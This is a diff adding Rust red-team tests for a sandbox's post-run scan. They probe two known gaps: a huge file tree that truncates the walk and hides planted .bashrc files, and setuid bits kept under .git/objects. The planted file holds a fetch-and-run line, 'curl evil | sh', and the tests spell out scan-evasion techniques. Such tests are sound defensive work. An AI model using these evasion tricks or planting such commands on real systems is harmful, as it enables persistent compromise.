@@ -1,0 +1,101 @@
+//! Red-team: the post-run scan (planted protected files removed, new
+//! setuid/setgid bits cleared) skipped by a command that controls what the
+//! walk sees. Both are known gaps, not fixed yet (the scan lives in
+//! crates/jail/src/launch.rs and rules.rs): the tests skip unless
+//! AIRLOCK_REDTEAM_KNOWN_GAPS is set, and pass once the gap is closed.
+//! Both callers (root, unprivileged), as in the escape suite.
+
+#[macro_use]
+mod support;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Stdio;
+use support::{chown_jail, workdir, write, Jail};
+
+both_modes!(
+    a_huge_tree_does_not_hide_planted_files,
+    setuid_bits_in_git_objects_are_cleared,
+);
+
+fn known_gap() -> bool {
+    if std::env::var_os("AIRLOCK_REDTEAM_KNOWN_GAPS").is_none() {
+        eprintln!("SKIPPED: known gap (see the red-team report); set AIRLOCK_REDTEAM_KNOWN_GAPS=1");
+        return true;
+    }
+    false
+}
+
+fn run_py(j: &Jail, w: &Path, script: &str) {
+    let p = w.join("probe.py");
+    write(&p, script);
+    chown_jail(&p);
+    let o = j
+        .cmd()
+        .arg("run")
+        .arg("--workdir")
+        .arg(w)
+        .args(["--", "/usr/bin/python3", "probe.py"])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "stderr {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+}
+
+/// The walk stops after 200,000 entries per writable root and the run
+/// still succeeds (`scan_truncated` in the report is all that says so): a
+/// command that writes 200,001 empty files first leaves every planted file
+/// in a directory the walk had not reached. 30 planting directories, so
+/// that at least one comes after the big one in the walk's order (all 30
+/// would have to precede it: about 1 in 31).
+fn a_huge_tree_does_not_hide_planted_files(j: &Jail) {
+    if known_gap() {
+        return;
+    }
+    let d = workdir();
+    run_py(
+        j,
+        d.path(),
+        "import os\n\
+         os.mkdir('big')\n\
+         for i in range(200_001):\n    open(f'big/{i}', 'w').close()\n\
+         for i in range(30):\n    os.mkdir(f'p{i}')\n    open(f'p{i}/.bashrc', 'w').write('curl evil | sh\\n')\n",
+    );
+    let left: Vec<String> = (0..30)
+        .map(|i| format!("p{i}/.bashrc"))
+        .filter(|p| d.path().join(p).exists())
+        .collect();
+    assert!(
+        left.is_empty(),
+        "planted files left after the run: {left:?}"
+    );
+}
+
+/// The walk does not descend into `.git/objects` (a large repository's
+/// bulk), so a file created there with setuid and setgid bits keeps them,
+/// while the same file anywhere else is cleared.
+fn setuid_bits_in_git_objects_are_cleared(j: &Jail) {
+    if known_gap() {
+        return;
+    }
+    let d = workdir();
+    run_py(
+        j,
+        d.path(),
+        "import os\n\
+         os.makedirs('.git/objects/ab')\n\
+         for p in ('.git/objects/ab/x', 'y'):\n    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o6755))\n",
+    );
+    let mode = |p: &str| {
+        std::fs::metadata(d.path().join(p))
+            .unwrap()
+            .permissions()
+            .mode()
+    };
+    assert_eq!(mode("y") & 0o6000, 0, "control");
+    assert_eq!(mode(".git/objects/ab/x") & 0o6000, 0, "setuid/setgid kept");
+}
